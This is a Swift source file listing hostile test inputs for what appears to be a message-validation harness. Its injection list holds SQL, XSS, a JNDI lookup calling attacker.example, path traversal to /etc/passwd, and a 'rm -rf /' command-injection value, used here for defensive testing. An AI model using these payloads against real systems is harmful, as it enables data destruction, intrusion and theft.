/// The hostile values the categories put into messages.
enum HostileValues {
    /// Values of every JSON type, null and empty ones: each field gets all of them (`wrong_type` category).
    static let wrongTypes: [(label: String, value: JSONTree)] = [
        ("null", .null),
        ("true", .leaf(Array("true".utf8), .bool)),
        ("0", .number(0)),
        ("-1", .number(-1)),
        ("3.14", .leaf(Array("3.14".utf8), .fraction)),
        ("1e400", .leaf(Array("1e400".utf8), .hugeNumber)),
        ("99999999999999999999999", .leaf(Array("99999999999999999999999".utf8), .hugeNumber)),
        ("-9223372036854775809", .leaf(Array("-9223372036854775809".utf8), .hugeNumber)),
        ("\"\"", .string("")),
        ("[]", .array([])),
        ("{}", .object([(String, JSONTree)]())),
        ("[[[]]]", .array([.array([.array([])])])),
        ("[1]", .array([.number(1)])),
        ("{\"a\":1}", .object([("a", .number(1))])),
    ]

    /// Injection strings: each is put into every string field and key (`injection` category). All are at most
    /// 64 bytes (the metadata key limit) and each has a character outside every identifier and code charset.
    static let injections: [String] = [
        "'; DROP TABLE activations; --",
        "' OR '1'='1",
        "1); UPDATE accounts SET balance_minor = 99999999; --",
        "<script>alert(document.cookie)</script>",
        "\"><img src=x onerror=alert(1)>",
        "${jndi:ldap://attacker.example/a}",
        "../../../../etc/passwd",
        "$(reboot); `id` | rm -rf /",
        "%s%s%s%s%n%x",
        "{{7*7}}${7*7}<%= 7*7 %>",
        "\r\nSet-Cookie: session=stolen",
        "ok\n2026-05-01T12:00:00Z critical forged log line",
        "*)(uid=*))(|(uid=*",
        "{\"$gt\": \"\"}",
        "\",\"service\":\"go\",\"x\":\"",
        "\u{202E}txt.exe\u{200B}\u{FEFF}",
        "тg\u{0301}",
        "\u{0}nul\u{0}",
    ]

    /// Byte sequences that are not UTF-8 (`invalid_utf8` category).
    static let invalidUTF8: [(label: String, bytes: [UInt8])] = [
        ("0xFF", [0xFF]),
        ("0xFE", [0xFE]),
        ("lone continuation 0x80", [0x80]),
        ("overlong NUL C0 80", [0xC0, 0x80]),
        ("overlong C1 BF", [0xC1, 0xBF]),
        ("overlong '/' E0 80 AF", [0xE0, 0x80, 0xAF]),
        ("surrogate ED A0 80", [0xED, 0xA0, 0x80]),
        ("above U+10FFFF F4 90 80 80", [0xF4, 0x90, 0x80, 0x80]),
        ("5-byte F8 88 80 80 80", [0xF8, 0x88, 0x80, 0x80, 0x80]),
        ("truncated E2 82", [0xE2, 0x82]),
    ]

    /// JSON escapes that name no character: lone surrogates (`invalid_utf8` category).
    static let loneSurrogates: [String] = [#"\ud800"#, #"\udfff"#, #"a\ud800b"#, #"\udc00\ud800"#]

    /// `schema_version` values this worker does not read.
    static let unknownVersions: [Int64] = [0, 2, 3, -1, 10, 999, 2_147_483_648, .max, .min]
}
